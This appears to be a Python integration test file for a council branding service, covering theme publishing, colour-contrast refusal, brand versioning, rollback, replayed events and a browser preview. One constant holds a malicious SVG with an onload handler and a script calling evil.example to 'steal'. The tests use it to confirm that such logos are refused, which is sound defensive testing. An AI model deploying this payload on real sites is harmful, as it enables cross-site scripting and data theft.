"""Branding on the real broker and database: a council's brand becomes a published, versioned,
accessible theme; bad brands are refused with every reason; changes after go-live, rollbacks and
repeated events behave."""

from __future__ import annotations

import json
import os
import shutil
import uuid
from pathlib import Path
from typing import Any

import pytest

from services.branding.repository import BrandVersions
from services.branding.service import Publishing, claim_domain
from services.branding.theme_folder import ThemeFolder
from shared.assets import AssetStore
from shared.events import (
    Brand,
    BrandChangeRequested,
    BrandChangeRequestedData,
    Council,
    TenancyRegistered,
    TenancyRegisteredData,
)
from shared.settings import REPO_ROOT
from shared.topics import Topic
from tests.harness import Client, drained, events_on
from tests.harness import cli as tenancy

EXAMPLE = REPO_ROOT / "examples" / "brands" / "hackney" / "brand.yaml"
EVIL_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    '<script>fetch("https://evil.example/steal")</script></svg>'
)


def brand_file(folder: Path, /, **changes: Any) -> Path:
    """The example brand, copied with its logo into ``folder``, with some keys changed."""
    folder.mkdir(parents=True, exist_ok=True)
    shutil.copy(EXAMPLE.parent / "hackney.svg", folder / "hackney.svg")
    text = EXAMPLE.read_text()
    lines = [line for line in text.splitlines() if line.split(":")[0] not in changes]
    lines += [f"{key}: {json.dumps(value)}" for key, value in changes.items()]
    path = folder / "brand.yaml"
    path.write_text("\n".join(lines) + "\n")
    return path


async def onboard_with(client: Client, council: str, path: Path) -> dict[str, Any]:
    result = await tenancy(
        client.slice, "onboard", "--council", council, "--service", "bin-collections",
        "--brand-file", str(path), "--json",
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    tenancy_id = json.loads(result.stdout)["id"]
    shown = await tenancy(client.slice, "status", tenancy_id, "--wait", "30", "--json")
    assert shown.returncode == 0, shown.stdout + shown.stderr
    status: dict[str, Any] = json.loads(shown.stdout)
    return status


async def history(client: Client, tenancy_id: str) -> list[dict[str, Any]]:
    shown = await tenancy(client.slice, "brand", "history", tenancy_id, "--json")
    assert shown.returncode == 0, shown.stderr
    rows: list[dict[str, Any]] = json.loads(shown.stdout)
    return rows


def themes(client: Client) -> ThemeFolder:
    return ThemeFolder(client.slice.root / "themes")


async def test_a_council_onboards_with_a_brand_file_and_gets_a_published_theme(
    platform: Client, tmp_path: Path
) -> None:
    status = await onboard_with(platform, "E09000017", brand_file(tmp_path))
    assert status["state"] == "active"
    theme = status["branding"]
    assert theme["version"] == 1
    css = Path(theme["css"])
    assert css.is_file()
    assert css.parent == themes(platform).root / status["id"] / "v1"
    text = css.read_text()
    assert "--tenancy-colour-primary: #00664F;" in text
    assert "--tenancy-colour-link: #1D70B8;" in text
    tokens = json.loads(Path(theme["tokens"]).read_text())
    assert tokens["color"]["primary"]["$value"] == "#00664F"
    assert tokens["logo"]["alt"] == "London Borough of Hackney"
    assert Path(theme["logo"]).read_bytes() == (EXAMPLE.parent / "hackney.svg").read_bytes()
    assert themes(platform).current_version(status["id"]) == 1

    # The domain waits for its TXT record; the default check works offline and leaves it so.
    domain = theme["domain"]
    assert domain["name"] == "bins.hackney.gov.uk"
    assert domain["status"] == "pending verification"
    assert domain["txt_record"] == "_tenancy-challenge.bins.hackney.gov.uk"
    assert domain["txt_value"].startswith("tenancy-verification=")

    # The event carries the version, hash and paths, never the logo's bytes.
    applied = [
        json.loads(e["value"])
        for e in await events_on(platform.slice, Topic.BRANDING_APPLIED)
        if status["id"] in e["value"]
    ]
    assert len(applied) == 1
    data = applied[0]["data"]
    assert data["version"] == 1
    assert data["paths"]["css"] == f"{status['id']}/v1/theme.css"
    assert data["content_hash"] == theme["content_hash"]
    assert "<svg" not in json.dumps(applied[0])

    shown = await tenancy(platform.slice, "status", status["id"])
    assert "theme version 1" in shown.stdout
    assert "pending verification" in " ".join(shown.stdout.split())


async def test_a_bad_colour_is_answered_with_what_to_change(
    platform: Client, tmp_path: Path
) -> None:
    colours = {"primary": "#00664F", "secondary": "#FFFFFF", "link": "#FFDD00"}
    result = await tenancy(
        platform.slice, "onboard", "--council", "E09000013", "--service", "bin-collections",
        "--brand-file", str(brand_file(tmp_path, colours=colours)),
    )  # fmt: skip
    assert result.returncode == 1
    text = " ".join(result.stderr.split())
    assert "colours.link" in text
    assert "#FFDD00 on #FFFFFF" in text
    assert "1.35:1" in text
    assert "4.5:1" in text
    assert "nearest shade" in text
    async with platform.pool.acquire() as conn:
        asked = await conn.fetchval(
            "SELECT count(*) FROM onboarding.tenancies WHERE council_gss = 'E09000013'"
        )
    assert asked == 0, "a refused brand file sends nothing"


async def test_every_problem_of_a_brand_file_is_reported_at_once(
    platform: Client, tmp_path: Path
) -> None:
    (tmp_path / "evil.svg").write_text(EVIL_SVG)
    path = brand_file(
        tmp_path,
        logo="evil.svg",
        logo_alt="logo",
        colours={"primary": "#FFFF00", "secondary": "#FFFFFF", "link": "#1D70B8"},
        domain="https://bins.hackney.gov.uk",
    )
    result = await tenancy(platform.slice, "brand", "set", str(uuid.uuid4()), "--file", str(path))
    assert result.returncode == 1
    text = " ".join(result.stderr.split())
    for field in ("colours.primary", "logo_alt", "domain", "logo: <script>"):
        assert field in text, (field, text)
    assert "onload" in text
    assert "script" in text


async def test_a_malicious_svg_that_bypasses_the_cli_is_refused_and_nothing_is_published(
    platform: Client,
) -> None:
    """The worker runs the same rules: an event made without the CLI fails the tenancy's
    branding step with the reason, and no theme is written."""
    assets = AssetStore(platform.slice.root / "assets")
    logo = assets.put(EVIL_SVG.encode(), "image/svg+xml")
    brand = Brand.model_validate(
        {
            "name": "Royal Borough of Greenwich",
            "logo": logo.model_dump(),
            "logo_alt": "Royal Borough of Greenwich",
            "colours": {"primary": "#00664F"},
        }
    )
    tenancy_id = await platform.onboard("E09000011", brand=brand)
    found = await platform.wait_for(tenancy_id)
    assert found["state"] == "failed"
    assert found["failed_step"] == "branding"
    assert "script" in found["reason"]
    assert not (themes(platform).root / tenancy_id).exists()
    async with platform.pool.acquire() as conn:
        assert await BrandVersions(conn).current(tenancy_id) is None


async def test_brand_change_and_rollback_after_go_live(platform: Client, tmp_path: Path) -> None:
    status = await onboard_with(platform, "E09000014", brand_file(tmp_path / "v1"))
    tenancy_id = status["id"]

    purple = {"primary": "#4C2C92", "secondary": "#FFFFFF", "link": "#1D70B8"}
    changed = await tenancy(
        platform.slice, "brand", "set", tenancy_id,
        "--file", str(brand_file(tmp_path / "v2", colours=purple)),
    )  # fmt: skip
    assert changed.returncode == 0, changed.stderr
    assert "version 2 is current" in " ".join(changed.stdout.split())
    assert themes(platform).current_version(tenancy_id) == 2
    css = themes(platform).root / tenancy_id / "current" / "theme.css"
    assert "#4C2C92" in css.read_text()

    # The same brand again makes no version.
    again = await tenancy(
        platform.slice, "brand", "set", tenancy_id,
        "--file", str(brand_file(tmp_path / "v2b", colours=purple)), "--json",
    )  # fmt: skip
    assert json.loads(again.stdout)["status"] == "unchanged"

    rows = await history(platform, tenancy_id)
    assert [(r["version"], r["current"]) for r in rows] == [(1, False), (2, True)]

    rolled = await tenancy(platform.slice, "brand", "rollback", tenancy_id, "1")
    assert rolled.returncode == 0, rolled.stderr
    assert themes(platform).current_version(tenancy_id) == 1
    assert "#00664F" in css.read_text()
    rows = await history(platform, tenancy_id)
    assert [(r["version"], r["current"]) for r in rows] == [(1, True), (2, False)]

    # Onboarding hears of every change: status shows the current theme.
    await drained(platform.slice)
    shown = await tenancy(platform.slice, "status", tenancy_id, "--json")
    assert json.loads(shown.stdout)["branding"]["version"] == 1
    assert json.loads(shown.stdout)["state"] == "active"

    missing = await tenancy(platform.slice, "brand", "rollback", tenancy_id, "7")
    assert missing.returncode == 1
    assert "has no version 7 (versions 1 to 2)" in " ".join(missing.stderr.split())


async def test_a_change_to_a_tenancy_that_is_not_active_is_refused(
    platform: Client, tmp_path: Path
) -> None:
    unknown = str(uuid.uuid4())
    result = await tenancy(
        platform.slice, "brand", "set", unknown, "--file", str(brand_file(tmp_path))
    )
    assert result.returncode == 1
    assert f"no tenancy {unknown}" in " ".join(result.stderr.split())


async def test_repeated_branding_events_make_no_second_version(platform: Client) -> None:
    tenancy_id = await platform.onboard("E09000015")
    assert (await platform.wait_for(tenancy_id))["state"] == "active"
    assets = AssetStore(platform.slice.root / "assets")
    logo = assets.put((EXAMPLE.parent / "hackney.svg").read_bytes(), "image/svg+xml")
    brand = Brand.model_validate(
        {
            "name": "London Borough of Harrow",
            "logo": logo.model_dump(),
            "logo_alt": "Harrow Council",
            "colours": {"primary": "#4C2C92"},
        }
    )
    change = BrandChangeRequested.new(
        source="tests", subject=tenancy_id, data=BrandChangeRequestedData(brand=brand)
    )
    registered = TenancyRegistered.new(
        source="tests",
        subject=tenancy_id,
        data=TenancyRegisteredData(
            council=Council(gss="E09000015", name="London Borough of Harrow", nation="England"),
            service=await _manifest(platform),
            brand=brand,
        ),
    )
    for _ in range(3):  # the change redelivered, and a registration replayed
        await platform.publish_raw(
            Topic.BRAND_CHANGE_REQUESTED, change.model_dump_json().encode(), key=tenancy_id
        )
        await platform.publish_raw(
            Topic.TENANCY_REGISTERED, registered.model_dump_json().encode(), key=tenancy_id
        )
    await drained(platform.slice)
    async with platform.pool.acquire() as conn:
        versions = await BrandVersions(conn).history(tenancy_id)
    assert [(v.version, v.current) for v in versions] == [(1, False), (2, True)]
    assert sorted(p.name for p in (themes(platform).root / tenancy_id).iterdir()) == [
        "current", "v1", "v2"
    ]  # fmt: skip


async def _manifest(client: Client) -> Any:
    from services.onboarding.repository import CatalogueRepository

    async with client.pool.acquire() as conn:
        return await CatalogueRepository(conn).get("bin-collections")


async def test_a_poison_change_is_refused_and_the_live_theme_stays(platform: Client) -> None:
    tenancy_id = await platform.onboard("E09000016")
    assert (await platform.wait_for(tenancy_id))["state"] == "active"
    request_id = str(uuid.uuid4())
    poison = {
        "specversion": "1.0", "id": request_id, "source": "tests",
        "type": Topic.BRAND_CHANGE_REQUESTED.event_type, "subject": tenancy_id,
        "data": {"brand": {"name": "x", "colours": {"primary": "not a colour"}}},
    }  # fmt: skip
    await platform.publish_raw(
        Topic.BRAND_CHANGE_REQUESTED, json.dumps(poison).encode(), key=tenancy_id
    )
    await drained(platform.slice)
    async with platform.pool.acquire() as conn:
        status, problems = await conn.fetchrow(
            "SELECT status, problems FROM branding.requests WHERE id = $1", request_id
        )
        dead = await conn.fetchval(
            "SELECT count(*) FROM branding.dead_letters WHERE key = $1", tenancy_id
        )
    assert status == "refused"
    assert "colours.primary" in problems[0]
    assert dead == 1
    found = await platform.status(tenancy_id)
    assert found is not None
    assert found["state"] == "active"
    assert found["branding"]["version"] == 1


async def test_a_domain_is_verified_once_its_check_sees_the_txt_record(platform: Client) -> None:
    """Verification is pluggable: a check that finds the record marks the domain verified."""
    seen: list[tuple[str, str, str]] = []

    async def finds_record(domain: str, record: str, value: str) -> bool:
        seen.append((domain, record, value))
        return True

    tenancy_id = str(uuid.uuid4())
    publishing = Publishing(
        assets=AssetStore(platform.slice.root / "assets"),
        themes=themes(platform),
        check_domain=finds_record,
    )
    async with platform.uow().transaction() as tx:
        claim = await claim_domain(tx, publishing, tenancy_id, "Bins.Example.GOV.uk")
        again = await claim_domain(tx, publishing, tenancy_id, "bins.example.gov.uk")
    assert claim is not None
    assert claim.status == "verified"
    assert again == claim
    assert seen == [("bins.example.gov.uk", claim.txt_record, claim.txt_value)]


@pytest.mark.skipif(
    shutil.which("chromium") is None and not os.environ.get("TENANCY_REQUIRE_BROWSER"),
    reason="needs Chromium from the system packages (apt-get install chromium)",
)
async def test_the_preview_renders_in_a_real_browser(platform: Client, tmp_path: Path) -> None:
    from playwright.async_api import async_playwright

    path = brand_file(
        tmp_path,
        name="Ceredigion County Council",
        welsh_name="Cyngor Sir Ceredigion",
        logo_alt="Cyngor Ceredigion",
        domain=None,
    )
    status = await onboard_with(platform, "W06000008", path)
    assert status["state"] == "active", status
    made = await tenancy(platform.slice, "brand", "preview", status["id"])
    assert made.returncode == 0, made.stderr
    page_path = Path(made.stdout.split(": ", 1)[1].strip())
    assert page_path.is_file()

    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(
            executable_path=shutil.which("chromium"),
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking",
                  "--disable-component-update", "--disable-sync", "--no-first-run"],
        )  # fmt: skip
        try:
            page = await browser.new_page(viewport={"width": 1024, "height": 640})
            await page.goto(page_path.as_uri())
            header = page.get_by_test_id("header")
            assert await header.evaluate("e => getComputedStyle(e).backgroundColor") == (
                "rgb(0, 102, 79)"
            )
            assert "Ceredigion County Council" in await header.inner_text()
            logo = page.get_by_role("img", name="Cyngor Ceredigion")
            assert await logo.evaluate("img => img.complete && img.naturalWidth > 0")
            assert await page.get_by_text("Cyngor Sir Ceredigion").get_attribute("lang") == "cy"
            link = page.get_by_test_id("link")
            assert await link.evaluate("e => getComputedStyle(e).color") == "rgb(29, 112, 184)"
            button = page.get_by_role("button", name="Start now")
            assert await button.evaluate("e => getComputedStyle(e).color") == ("rgb(255, 255, 255)")
            shot = tmp_path / "preview.png"
            await page.screenshot(path=str(shot), full_page=True)
            assert shot.stat().st_size > 5_000
        finally:
            await browser.close()
